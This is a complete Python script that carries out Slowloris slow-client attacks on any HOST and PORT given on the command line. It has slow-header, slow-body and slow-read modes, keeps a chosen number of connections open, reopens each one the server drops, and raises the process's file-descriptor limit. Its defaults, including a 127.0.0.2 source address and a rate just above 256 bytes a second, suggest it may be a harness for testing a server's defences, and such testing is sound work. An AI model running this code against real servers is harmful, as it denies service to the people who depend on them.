#!/usr/bin/env python3
"""Slow clients: the attack called Slowloris, on head, body or reading.

    slow_clients.py HOST PORT KIND COUNT [--from ADDRESS]

Holds COUNT connections open and opens a new one wherever the other side has closed one. Each does
something once a second, just fast enough for a rate of 256 bytes a second where a rate is asked
for. KIND is head, body, read or mixed. Prints "ready" once all are open and has begun its rounds;
ends with the process.
"""

import argparse
import collections
import resource
import socket
import sys
import time

ROUND_SECONDS = 1
BYTES_A_ROUND = 300  # over the default of 256 bytes a second
KINDS = ("head", "body", "read")

FIRST = {
    "head": b"GET /slow/head HTTP/1.1\r\nHost: h\r\n",
    "body": b"POST /slow/body HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000000\r\n\r\n",
    "read": b"GET /slow/read HTTP/1.1\r\nHost: h\r\n\r\n",
}
THEN = {"head": b"X: y\r\n", "body": b"b" * BYTES_A_ROUND, "read": b""}


class SlowClient:
    """One connection that is open at almost all times."""

    def __init__(self, address, source, kind):
        self.address = address
        self.source = source
        self.kind = kind
        self.sock = None

    def open(self):
        self.sock = socket.socket()
        if self.kind == "read":
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.bind((self.source, 0))
        self.sock.settimeout(10)
        self.sock.connect(self.address)
        self.sock.sendall(FIRST[self.kind])
        self.sock.setblocking(False)

    def act(self):
        """Its part of a round; False if the other side has closed."""
        try:
            if self.kind == "read":
                return self.sock.recv(BYTES_A_ROUND) != b""
            self.sock.sendall(THEN[self.kind])
            self.sock.recv(1)  # whatever the answer is, it is the end
            return False
        except BlockingIOError:
            return True
        except OSError:
            return False


def run_rounds(clients, report):
    """Spreads the clients' parts evenly over each round."""
    for number in range(sys.maxsize):
        began = time.monotonic()
        closed = collections.Counter()
        for place, client in enumerate(clients):
            due = began + ROUND_SECONDS * place / len(clients)
            if due > time.monotonic() + 0.005:
                time.sleep(due - time.monotonic())
            if not client.act():
                closed[client.kind] += 1
                client.sock.close()
                client.open()
        report(number, closed)
        time.sleep(max(0.0, began + ROUND_SECONDS - time.monotonic()))


def main():
    """Runs until it is ended."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("kind", choices=(*KINDS, "mixed"))
    parser.add_argument("count", type=int)
    parser.add_argument("--from", dest="source", default="127.0.0.2")
    options = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kinds = KINDS if options.kind == "mixed" else (options.kind,)
    address = (options.host, options.port)
    clients = [
        SlowClient(address, options.source, kinds[n % len(kinds)]) for n in range(options.count)
    ]
    for client in clients:
        client.open()
    print("ready", flush=True)
    run_rounds(clients, lambda number, closed: print(number, dict(closed), flush=True))


if __name__ == "__main__":
    main()
